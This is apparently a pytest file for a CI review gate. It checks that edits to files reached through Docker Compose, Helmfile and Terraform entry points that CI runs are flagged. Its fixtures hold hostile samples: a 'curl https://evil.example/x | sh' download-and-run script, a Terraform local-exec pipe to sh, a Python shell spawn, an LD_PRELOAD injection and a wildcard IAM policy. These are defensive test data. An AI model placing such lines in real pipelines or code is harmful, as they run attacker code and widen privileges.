"""What other runners CI names an entry file to pull in from elsewhere (issue 12; cireaches.py).

`docker compose -f deploy/stack.yml` reads a Compose file of any name: the Compose files of a Compose name were read
for what they build and take in (composerefs.py), one CI names only by `-f` was not, and its `env_file`, a build's
`dockerfile`, an entrypoint's init-script mount stayed `src`. `helmfile -f deploy/helmfile.yaml`: its `values:`,
`bases:`, environments' values, sub-helmfiles and the scripts its hooks run stayed `src`. `terraform -chdir=infra`:
what its modules read was found (tfrefs.py, siblingrefs.py) but for a test's data (`templatefile("../tests/fixtures/
u.sh")`), which principle 1 leaves alone unless CI runs it, as here. `gate --tree` allowed each edit: 11 of the 18
variants exit 0 on integ 00d44cb (the other `tf-` ones and the content-iac Compose ones are controls that stay).

Each variant is one real repository run by one workflow step, git's own patch, the CLI's packet, the default policy.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

WORKFLOW = "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {}\n"
SH = "#!/bin/sh\necho ok\n"
EVIL_SH = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
COMPOSE = "docker compose -f deploy/stack.yml up -d"
HELMFILE = "helmfile -f deploy/helmfile.yaml apply"
TERRAFORM = "terraform -chdir=infra apply -auto-approve"
RELEASE = "releases:\n  - name: web\n    chart: bitnami/nginx\n"
LOCAL_EXEC = 'resource "null_resource" "a" {\n  provisioner "local-exec" {\n    command = "curl x | sh"\n  }\n}\n'
# name: (the step's command, BASE's files, the edited file, HEAD's text)
VARIANTS = {
    "compose-env-file": (COMPOSE, {"deploy/stack.yml": "services:\n  app:\n    image: app:1\n"
                                   "    env_file: ../conf/app.env\n", "conf/app.env": "A=1\n"},
                         "conf/app.env", "LD_PRELOAD=/tmp/x.so\n"),
    "compose-extends": (COMPOSE, {"deploy/stack.yml": "services:\n  app:\n    extends:\n"
                                  "      file: ../common/base.yml\n      service: base\n",
                                  "common/base.yml": "services:\n  base:\n    image: app:1\n"},
                        "common/base.yml", "services:\n  base:\n    image: evil:1\n"),
    "compose-include": (COMPOSE, {"deploy/stack.yml": "include:\n  - ../common/more.yml\n"
                                  "services:\n  app:\n    image: a\n",
                                  "common/more.yml": "services:\n  db:\n    image: db:1\n"},
                        "common/more.yml", "services:\n  db:\n    image: evil:1\n"),
    "compose-dockerfile": (COMPOSE, {"deploy/stack.yml": "services:\n  app:\n    build:\n      context: ../app\n"
                                     "      dockerfile: ../images/app.build\n", "images/app.build": "FROM alpine\n",
                                     "app/main.py": "print(1)\n"}, "images/app.build", "FROM evil\n"),
    "compose-initdb": (COMPOSE, {"deploy/stack.yml": "services:\n  db:\n    image: postgres\n    volumes:\n"
                                 "      - ../tests/fixtures/init:/docker-entrypoint-initdb.d\n",
                                 "tests/fixtures/init/a.sh": SH}, "tests/fixtures/init/a.sh", EVIL_SH),
    "helmfile-values": (HELMFILE, {"deploy/helmfile.yaml": RELEASE + "    values:\n      - ../conf/web.yaml\n",
                                   "conf/web.yaml": "image: nginx\n"}, "conf/web.yaml", "image: evil\n"),
    "helmfile-hook": (HELMFILE, {"deploy/helmfile.yaml": RELEASE + "    hooks:\n      - events: [presync]\n"
                                 "        command: ../scripts/sync.sh\n", "scripts/sync.sh": SH},
                      "scripts/sync.sh", EVIL_SH),
    "helmfile-hook-args": (HELMFILE, {"deploy/helmfile.yaml": RELEASE + "    hooks:\n      - events: [presync]\n"
                                      "        command: bash\n        args: [\"../scripts/sync.sh\"]\n",
                                      "scripts/sync.sh": SH}, "scripts/sync.sh", EVIL_SH),
    "helmfile-bases": (HELMFILE, {"deploy/helmfile.yaml": "bases:\n  - ../common/env.yaml\n" + RELEASE,
                                  "common/env.yaml": "environments:\n  default: {}\n"},
                       "common/env.yaml", "environments:\n  default:\n    values: [{image: evil}]\n"),
    "helmfile-env-values": (HELMFILE, {"deploy/helmfile.yaml": "environments:\n  default:\n    values:\n"
                                       "      - ../conf/env.yaml\n" + RELEASE, "conf/env.yaml": "image: a\n"},
                            "conf/env.yaml", "image: evil\n"),
    "helmfile-sub": (HELMFILE, {"deploy/helmfile.yaml": "helmfiles:\n  - path: ../sub/apps.yaml\n",
                                "sub/apps.yaml": RELEASE}, "sub/apps.yaml", RELEASE.replace("bitnami", "evil")),
    "helmfile-sub-values": (HELMFILE, {"deploy/helmfile.yaml": "helmfiles:\n  - ../sub/apps.yaml\n",
                                       "sub/apps.yaml": RELEASE + "    values:\n      - ../conf/web.yaml\n",
                                       "conf/web.yaml": "image: a\n"}, "conf/web.yaml", "image: evil\n"),
    "helmfile-chart": (HELMFILE, {"deploy/helmfile.yaml": "releases:\n  - name: web\n"
                                  "    chart: ../tests/fixtures/chart\n",
                                  "tests/fixtures/chart/Chart.yaml": "apiVersion: v2\nname: web\nversion: 1.0.0\n",
                                  "tests/fixtures/chart/templates/job.yaml": "kind: Job\n"},
                       "tests/fixtures/chart/templates/job.yaml", "kind: Job\nspec: {image: evil}\n"),
    "tf-module-fixture": (TERRAFORM, {"infra/main.tf": 'module "net" {\n  source = "../tests/fixtures/net"\n}\n',
                                      "tests/fixtures/net/main.tf": 'resource "null_resource" "a" {}\n'},
                          "tests/fixtures/net/main.tf", LOCAL_EXEC),
    "tf-module-script": (TERRAFORM, {"infra/main.tf": 'module "net" {\n  source = "../modules/net"\n}\n',
                                     "modules/net/main.tf": LOCAL_EXEC.replace("curl x | sh",
                                                                               "${path.module}/../../scripts/x.sh"),
                                     "scripts/x.sh": SH}, "scripts/x.sh", EVIL_SH),
    "tf-external": (TERRAFORM, {"infra/main.tf": 'data "external" "q" {\n'
                                '  program = ["python3", "../tools/q.py"]\n}\n',
                                "tools/q.py": "print('{}')\n"}, "tools/q.py", "import os\nos.system('sh')\n"),
    "tf-templatefile": (TERRAFORM, {"infra/main.tf": 'locals {\n  u = templatefile("../tests/fixtures/u.sh", {})\n}\n',
                                    "tests/fixtures/u.sh": SH}, "tests/fixtures/u.sh", EVIL_SH),
    "tf-module-file": (TERRAFORM, {"infra/main.tf": 'module "net" {\n  source = "../modules/net"\n}\n',
                                   "modules/net/main.tf": 'locals {\n  p = file("${path.module}/policy.json")\n}\n',
                                   "modules/net/policy.json": "{}\n"}, "modules/net/policy.json", '{"Action": "*"}\n'),
}


def gated_variant(tmp_path: Path, name: str) -> tuple[int, list[str]]:
    command, base, path, new = VARIANTS[name]
    case = committed(tmp_path, {**base, ".github/workflows/deploy.yml": WORKFLOW.format(command)}, {path: new})
    code, named = gated_rules(case, True)
    return code, sorted(rule for rule, paths in named.items() if path in paths)


@each_case("name", VARIANTS)
def test_what_a_ci_entry_file_pulls_in_is_reviewed(tmp_path: Path, name: str) -> None:
    code, rules = gated_variant(tmp_path, name)
    assert code == 3 and rules in (["core.ci"], ["core.iac"]), (code, rules)


def test_a_developer_compose_file_keeps_its_init_scripts(tmp_path: Path) -> None:
    """The same mount in a `compose.yaml` no CI step brings up: a developer's database init script stays `src` (the
    eighteenth set labels pypi/warehouse's so)."""
    base = {"compose.yaml": "services:\n  db:\n    image: postgres\n    volumes:\n"
                            "      - ./db/init:/docker-entrypoint-initdb.d\n",
            "db/init/a.sh": SH}
    assert gated_rules(committed(tmp_path, base, {"db/init/a.sh": EVIL_SH}), True) == (0, {})


def test_a_helmfile_nobody_runs_reaches_nothing(tmp_path: Path) -> None:
    base = {"deploy/helmfile.yaml": RELEASE + "    values:\n      - ../conf/web.yaml\n", "conf/web.yaml": "image: a\n"}
    assert gated_rules(committed(tmp_path, base, {"conf/web.yaml": "image: b\n"}), True) == (0, {})
